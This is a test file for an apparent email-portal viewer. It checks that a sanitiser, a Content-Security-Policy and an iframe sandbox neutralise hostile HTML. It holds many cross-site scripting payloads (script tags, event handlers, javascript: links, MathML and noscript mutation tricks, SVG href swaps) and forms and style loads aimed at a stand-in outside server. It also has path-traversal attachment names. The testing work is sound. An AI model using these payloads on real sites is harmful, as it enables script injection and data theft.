import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  filePart,
  htmlPart,
  mimeMessage,
  openPortalDesk,
  type PortalDesk,
  textPart,
  type Visit,
} from "./portal-desk.ts";

let desk: PortalDesk;
let visit: Visit;
beforeAll(async () => {
  desk = await openPortalDesk({ limits: { pickupsPerMinute: 10_000 } });
  visit = await desk.visit();
});
afterAll(async () => {
  await visit.context.close();
  await desk.close();
  listener.close();
});

/** A real server of somebody else, who would be glad to hear from the reader. */
const heard: string[] = [];
const listener = createServer((request, response) => {
  heard.push(request.url ?? "");
  response.end();
});
await new Promise<void>((resolve) => void listener.listen(0, "127.0.0.1", resolve));
const outside = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
const hit = "top.postMessage('hit','*');parent.hit=1;alert('hit')";
const payloads: readonly (readonly [name: string, html: string])[] = [
  ["a script", `<script>${hit}</script><script src="${outside}/a.js"></script>`],
  ["event handlers", `<img src=x onerror="${hit}"><body onload="${hit}"><details open ontoggle="${hit}">x</details>`],
  ["a javascript link", `<a id="go" href="javascript:${hit}">go</a><a href="java\tscript:${hit}">go</a>`],
  [
    "frames and objects",
    `<iframe src="javascript:${hit}"></iframe><object data="${outside}/o"></object><embed src="${outside}/e">`,
  ],
  ["a frame in a frame", `<iframe srcdoc="<script>${hit}</script>"></iframe>`],
  [
    "SVG",
    `<svg onload="${hit}"><script>${hit}</script><image href="${outside}/s.png"/><use href="data:image/svg+xml,x"/></svg>`,
  ],
  ["MathML", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`],
  ["a base and a refresh", `<base href="${outside}/"><meta http-equiv="refresh" content="0;url=${outside}/r">`],
  ["a form", `<form action="${outside}/f"><input name=code autofocus onfocus="${hit}"><button>Go</button></form>`],
  [
    "styles that load",
    `<style>@import url(${outside}/i.css);body{background:url(${outside}/b.png)}@font-face{font-family:x;src:url(${outside}/f.woff)}</style><p style="font-family:x;background:url(${outside}/c.png)">x</p>`,
  ],
  [
    "linked styles and prefetch",
    `<link rel=stylesheet href="${outside}/l.css"><link rel=prefetch href="${outside}/p"><link rel=dns-prefetch href="${outside}">`,
  ],
  [
    "media",
    `<video src="${outside}/v.mp4" poster="${outside}/v.png" autoplay></video><audio src="${outside}/a.mp3" autoplay></audio><img srcset="${outside}/2x.png 2x">`,
  ],
  [
    "a table background and input image",
    `<table background="${outside}/t.png"><td background="${outside}/d.png">x</td></table><input type=image src="${outside}/n.png">`,
  ],
  [
    "broken markup that parses twice",
    `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript><listing>&lt;img src=x onerror=${hit}&gt;</listing>`,
  ],
  ["an end of the frame's document", `</body></html><script>${hit}</script><plaintext>`],
];

async function untouched(): Promise<void> {
  expect(heard).toEqual([]);
  expect(visit.incidents).toEqual([]);
  expect(await visit.page.evaluate(() => "hit" in window)).toBe(false);
  expect(visit.page.url().startsWith(`${desk.clinic.url}/p/`)).toBe(true);
}

/** Whatever the frame was going to load or run, it has had its time when its last picture is there. */
async function frameSettled(): Promise<void> {
  const last = visit.page.frameLocator("iframe").locator("#last");
  await last.waitFor({ state: "attached" });
  await visit.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 100))));
}

describe("hostile HTML in a message does nothing", () => {
  it.each(payloads)("%s", async (_, html) => {
    const { link } = await desk.seal(mimeMessage([htmlPart(`<p id="last">Good day</p>${html}`)]));
    await visit.pickUp(link);
    await frameSettled();
    const frame = visit.page.frameLocator("iframe");
    for (const link of await frame.locator("a").all()) await link.click({ trial: true });
    expect(
      await frame.locator("script, iframe, object, embed, form, input, base, link, svg, math, video, audio").count(),
    ).toBe(0);
    expect(await frame.locator("[onerror], [onload], [onfocus], [ontoggle], [href^=java]").count()).toBe(0);
    expect(await frame.getByText("Good day").count()).toBe(1);
    expect(visit.strayRequests).toEqual([]);
    await untouched();
  });

  it.each(payloads)(
    "not even %s if the sanitiser had let it through: the frame and its policy hold alone",
    async (_, html) => {
      const { link } = await desk.seal(mimeMessage([htmlPart("<p>Good day</p>")]));
      await visit.pickUp(link);
      await visit.page.locator("iframe").evaluate((frame: HTMLIFrameElement, raw) => {
        frame.srcdoc = frame.srcdoc.replace("<p>Good day</p>", () => `<p id="last">Good day</p>${raw}`);
      }, html);
      await frameSettled();
      await untouched();
    },
  );
});

/** The long list, many in one message: each stands in a block of its own, and the message says where it ends. */
const listedLines = readFileSync("test/fixtures/xss-payloads.txt", "utf8").split("\n");
const listed = listedLines
  .filter((line) => line !== "" && !line.startsWith("# "))
  .map((line) => line.replaceAll("HIT", hit).replaceAll("//OUT", outside.slice(5)).replaceAll("OUT", outside));
const batches = Array.from({ length: Math.ceil(listed.length / 25) }, (_, at) => listed.slice(at * 25, at * 25 + 25));

describe("the long list of payloads does nothing", () => {
  it("is long, and of many families", () => {
    expect(listed.length).toBeGreaterThan(330);
    expect(listedLines.filter((line) => line.startsWith("# ")).length).toBeGreaterThan(7);
  });

  it.each(batches.map((batch, at) => [at, batch] as const))("cleaned, part %i", async (_, batch) => {
    const html = batch.map((payload) => `<div>${payload}</div>`).join("\n");
    const { link } = await desk.seal(mimeMessage([htmlPart(`<p id="last">Good day</p>${html}`)]));
    // Requests that a raw payload of an earlier test was stopped in are told too.
    const before = visit.strayRequests.length;
    await visit.pickUp(link);
    await frameSettled();
    const frame = visit.page.frameLocator("iframe");
    expect(
      await frame.locator("script, iframe, object, embed, form, input, base, link, svg, math, video, audio").count(),
    ).toBe(0);
    const handlers = await frame
      .locator("body *")
      .evaluateAll((all) => all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))));
    expect(handlers).toEqual([]);
    expect(visit.strayRequests.slice(before)).toEqual([]);
    await untouched();
  });

  // One message each for the raw ones: what a payload swallows (a plaintext, an open comment) must not hide the next.
  it("raw, all of them, with the sanitiser out of the way", async () => {
    const { link } = await desk.seal(mimeMessage([htmlPart("<p>Good day</p>")]));
    await visit.pickUp(link);
    const whole = await visit.page.locator("iframe").evaluate((frame: HTMLIFrameElement) => frame.srcdoc);
    for (const payload of listed) {
      await visit.page.locator("iframe").evaluate(
        (frame: HTMLIFrameElement, srcdoc) =>
          new Promise<void>((loaded) => {
            frame.addEventListener("load", () => loaded(), { once: true });
            frame.srcdoc = srcdoc;
          }),
        whole.replace("<p>Good day</p>", () => `<p id="last">Good day</p>${payload}`),
      );
    }
    await visit.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 100))));
    await untouched();
  });
});

describe("what waits for a click", () => {
  const clicked: readonly (readonly [string, string])[] = [
    ["a javascript link", `<a id=go href="javascript:${hit}">go</a>`],
    ["a javascript link to a new tab", `<a id=go target=_blank href="javascript:${hit}">go</a>`],
    [
      "a javascript link to a new tab that may look back",
      `<a id=go target=_blank rel=opener href="javascript:${hit}">go</a>`,
    ],
    ["a page in the link", `<a id=go target=_blank href="data:text/html,<script>${hit}</script>">go</a>`],
    ["a link for the whole window", `<a id=go target=_top href="${outside}/top">go</a>`],
    ["a link for the window around it", `<a id=go target=_parent href="javascript:${hit}">go</a>`],
    ["a form", `<form action="${outside}/form" method=post><input name=code value=1><button id=go>go</button></form>`],
    ["a form for the whole window", `<form action="${outside}/form" target=_top><button id=go>go</button></form>`],
    ["a form with a script", `<form action="javascript:${hit}"><button id=go>go</button></form>`],
    [
      "a button elsewhere",
      `<form id=f></form><button id=go form=f formaction="${outside}/f" formtarget=_top>go</button>`,
    ],
    ["a handler", `<button id=go onclick="${hit}">go</button>`],
    ["a download", `<a id=go download=x.html href="data:text/html,<script>${hit}</script>">go</a>`],
    [
      "an SVG link that becomes another",
      `<svg width=90 height=40><a id=go href="#"><animate attributeName=href values="javascript:${hit}" fill=freeze dur=1ms /><rect width=90 height=40 /></a></svg>`,
    ],
    ["a MathML link", `<math id=go href="javascript:${hit}"><mtext>go</mtext></math>`],
  ];

  let whole: string;
  beforeAll(async () => {
    const { link } = await desk.seal(mimeMessage([htmlPart("<p>Good day</p>")]));
    await visit.pickUp(link);
    whole = await visit.page.locator("iframe").evaluate((frame: HTMLIFrameElement) => frame.srcdoc);
  });

  it.each(clicked)("%s does nothing even raw, with the sanitiser out of the way", async (_, html) => {
    await visit.page.locator("iframe").evaluate(
      (frame: HTMLIFrameElement, srcdoc) => {
        frame.srcdoc = srcdoc;
      },
      whole.replace("<p>Good day</p>", () => `${html}<p id="last">Good day</p>`),
    );
    await frameSettled();
    const place = await visit.page.frameLocator("iframe").locator("#go").boundingBox();
    if (place === null) throw new Error("there is nothing to click");
    await visit.page.mouse.click(place.x + Math.min(place.width / 2, 8), place.y + place.height / 2);
    await visit.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 200))));
    // A new tab may have been opened: an empty one.
    for (const page of visit.context.pages().filter((one) => one !== visit.page)) {
      expect(["about:blank", "about:blank#blocked", ""]).toContain(page.url());
      expect(await page.evaluate(() => "hit" in window)).toBe(false);
      await page.close();
    }
    await untouched();
  });

  it("while a plain link to the web opens, in a tab of its own", async () => {
    const opening = visit.context.waitForEvent("page");
    await visit.page.locator("iframe").evaluate(
      (frame: HTMLIFrameElement, srcdoc) => {
        frame.srcdoc = srcdoc;
      },
      whole.replace(
        "<p>Good day</p>",
        () => `<a id=go target=_blank href="${outside}/opened">go</a><p id="last">x</p>`,
      ),
    );
    await frameSettled();
    await visit.page.frameLocator("iframe").locator("#go").click();
    const opened = await opening;
    await expect.poll(() => heard.splice(0)).toContain("/opened");
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    await opened.close();
    // The new tab's own wish for an icon.
    heard.length = 0;
    await untouched();
  });
});

describe("a message's own parts", () => {
  it("are shown as pictures where they are pictures, and never as a page, a style or a script", async () => {
    const part = (type: string, id: string, content: string): string =>
      filePart(
        `Content-Type: ${type}\r\nContent-ID: <${id}>\r\nContent-Disposition: inline`,
        new TextEncoder().encode(content),
      );
    const html = [
      '<p id="last">Good day</p>',
      ...["page", "drawing", "odd", "named", "text"].map((id) => `<img class=part alt=${id} src="cid:${id}@x">`),
      '<img class=part alt=quoted src="cid:a%22%20onerror%3D%22x@x"><img class=part alt=proto src="cid:__proto__">',
      '<iframe src="cid:page@x"></iframe><object data="cid:drawing@x"></object><embed src="cid:page@x">',
      '<link rel=stylesheet href="cid:style@x"><script src="cid:script@x"></script>',
      '<style>@import "cid:style@x"; body { background: url(cid:drawing@x) }</style>',
      '<a href="cid:page@x">page</a>',
    ].join("");
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"><image href="${outside}/cid.png"/></svg>`;
    const { link } = await desk.seal(
      mimeMessage(
        [
          htmlPart(html),
          part("text/html", "page@x", `<script>${hit}</script>`),
          part("image/svg+xml", "drawing@x", drawing),
          part(`image/png;x="" onerror="${hit}"`, "odd@x", drawing),
          part("image/png", 'a" onerror="x@x', drawing),
          part("IMAGE/SVG+XML", "named@x", drawing),
          part("image/png", "__proto__", "x"),
          part("text/css", "style@x", `p { background: url(${outside}/cid-style.png) }`),
          part("text/javascript", "script@x", hit),
        ],
        "Parts",
        "related",
      ),
    );
    const before = visit.strayRequests.length;
    await visit.pickUp(link);
    await frameSettled();
    const frame = visit.page.frameLocator("iframe");
    const sources = await frame
      .locator("img.part")
      .evaluateAll((all) => all.map((one) => [one.getAttribute("alt"), one.getAttribute("src")?.slice(0, 22) ?? null]));
    for (const [alt, source] of sources)
      expect([alt, [null, "data:image/png;base64,"].includes(source ?? null)]).toEqual([alt, true]);
    expect(Object.fromEntries(sources)).toMatchObject({ page: null, drawing: null, named: null, text: null });
    expect(await frame.locator("iframe, object, embed, link, script").count()).toBe(0);
    expect(await frame.locator("a").getAttribute("href")).toBeNull();
    expect(visit.strayRequests.slice(before)).toEqual([]);
    await untouched();
  });
});

describe("hostile names in a message are only names", () => {
  it("in the subject, the sender, a plain text and an attachment's name", async () => {
    const name = `"><img src=x onerror=${hit}>.html`;
    const message = mimeMessage(
      [
        textPart(`<img src=x onerror="${hit}"> javascript:${hit}`),
        filePart(
          `Content-Type: text/html\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(`..\\/\u202E${name}`)}`,
          new TextEncoder().encode(`<script>${hit}</script>`),
        ),
      ],
      `<img src=x onerror=${hit}>`,
    );
    const { link } = await desk.seal(message);
    await visit.pickUp(link);
    expect(await visit.page.locator("h1").textContent()).toBe(`<img src=x onerror=${hit}>`);
    expect(await visit.page.locator("main img, .text a").count()).toBe(0);
    const shown = await visit.page.locator(".files .name").textContent();
    expect(shown).toMatch(/^_.*\.html$/);
    expect(shown).not.toMatch(/[\\/:"<>\u202E]/);
    const type = await visit.page
      .locator(".files a")
      .evaluate(
        async (link: HTMLAnchorElement) =>
          (await (await fetch(link.href).catch(() => null))?.blob())?.type ?? "closed by the policy",
      );
    expect(["application/octet-stream", "closed by the policy"]).toContain(type);
    await untouched();
  });
});

it("the frame has an origin of its own, no scripts, and a policy that loads nothing", async () => {
  const { link } = await desk.seal(mimeMessage([htmlPart("<p>Good day</p>")]));
  await visit.pickUp(link);
  const frame = visit.page.locator("iframe");
  expect(await frame.getAttribute("sandbox")).toBe("allow-popups allow-popups-to-escape-sandbox");
  expect(await frame.getAttribute("srcdoc")).toContain(
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'">`,
  );
  expect(await frame.evaluate((one: HTMLIFrameElement) => one.contentDocument)).toBeNull();
});
